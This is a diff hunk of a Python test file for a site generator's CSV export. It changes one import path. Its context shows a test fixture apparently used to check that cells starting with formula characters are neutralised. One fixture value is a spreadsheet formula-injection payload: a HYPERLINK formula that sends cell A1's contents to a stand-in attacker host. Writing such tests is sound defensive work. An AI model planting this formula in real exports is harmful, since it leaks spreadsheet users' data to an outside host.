@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from sitegen.opendata import FORMULA_STARTS, csv_cell
+from sitegen.render.opendata import FORMULA_STARTS, csv_cell
 
 TITLES = {
     "equals": '=HYPERLINK("https://evil.example/?x="&A1,"คลิก")',
